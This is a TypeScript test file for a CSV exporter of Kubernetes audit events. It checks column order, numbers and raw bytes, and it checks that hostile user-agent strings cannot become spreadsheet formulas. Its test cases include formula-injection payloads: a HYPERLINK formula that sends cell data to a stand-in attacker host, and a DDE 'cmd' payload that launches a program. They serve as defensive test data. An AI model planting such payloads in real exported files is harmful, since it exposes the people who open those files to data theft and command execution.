import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { columnsOf } from './columns.ts'
import { readCsv } from './csv-reader-for-tests.ts'
import { csvHeader, csvLine } from './csv.ts'
import { itemWith, rowOf } from './rows-for-tests.ts'

/** What Excel, LibreOffice and Google Sheets take for a formula or a command at the begin of a cell. */
const dangerous = /^\s*[=+\-@\t\r\n＝＋－＠]/

function cellsOf(different: Readonly<Record<string, unknown>>): Readonly<Record<string, string>> {
  const [names = [], cells = []] = readCsv(csvHeader(true) + csvLine(rowOf(itemWith(different)), true))
  expect(cells).toHaveLength(names.length)
  return Object.fromEntries(names.map((name, at) => [name, cells[at] ?? '']))
}

describe('a CSV file', () => {
  test('has the same columns, in the same order, for ever', () => {
    expect(csvHeader(false)).toBe(
      'time,cluster,actor,verb,resource,subresource,namespace,name,outcome,code,sentence,detail,class,kind,api_group,' +
        'api_version,object_uid,path,actor_type,acted_as,actor_groups,source_ip,claimed_ips,client,client_version,' +
        'user_agent,decision,reason,audit_id,stage,level,truncated,conflict,duration_us,flags,seen,id,stage_ids\r\n',
    )
    expect(csvHeader(true)).toBe(csvHeader(false).replace('\r\n', ',raw\r\n'))
  })

  test.each([
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+1+cmd|"/C calc"!A0',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    "'=1+1",
    'a;=1+1',
    'a,b"c\r\n=d',
  ])('has no cell that is a formula when a client calls itself %j', (userAgent) => {
    const line = csvLine(rowOf(itemWith({ userAgent })), false)
    const [cells = []] = readCsv(line)
    expect(cells.filter((cell) => dangerous.test(cell))).toEqual([])
    // Where another separator is in force, a cell could begin behind it, if it were not quoted.
    expect(line.replaceAll(/"(?:[^"]|"")*"/g, '')).not.toMatch(/[;\t]/)
    expect(cellsOf({ userAgent })['user_agent']?.replace(/^'(?='*\s*[=+\-@\t\r\n＝＋－＠])/, '')).toBe(userAgent)
  })

  test('gives every text back: the apostrophe goes where a formula follows it', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', "'", '-', '"', ',', ';', ' ', '\t', '\r', '\n', 'a', '＠', 'é') }),
        (userAgent) => {
          const cell = cellsOf({ userAgent })['user_agent'] ?? ''
          expect(dangerous.test(cell)).toBe(false)
          expect(cell.replace(/^'(?='*\s*[=+\-@\t\r\n＝＋－＠])/, '')).toBe(
            rowOf(itemWith({ userAgent })).event.source.client.userAgent,
          )
        },
      ),
    )
  })

  test('leaves numbers alone, also below zero', () => {
    const cells = cellsOf({ stageTimestamp: '2026-11-20T11:59:58.418206Z' })
    expect(cells).toMatchObject({ duration_us: '-5', code: '200', time: '2026-11-20T11:59:58.418211Z' })
  })

  test('has lists as JSON and nothing as an empty cell', () => {
    expect(cellsOf({})).toMatchObject({
      actor_groups: '["sre","system:authenticated"]',
      claimed_ips: '["203.0.113.9"]',
      acted_as: '',
      subresource: '',
      flags: '',
    })
  })

  test('has the raw bytes as they are', () => {
    expect(cellsOf({})['raw']).toBe(itemWith())
    const broken = { ...rowOf(itemWith()), raw: Buffer.from([0x7b, 0xff, 0x7d]) }
    const [cells = []] = readCsv(csvLine(broken, true))
    expect(cells.at(-1)).toBe('base64:e/99')
    expect(columnsOf(true).at(-1)?.name).toBe('raw')
  })
})
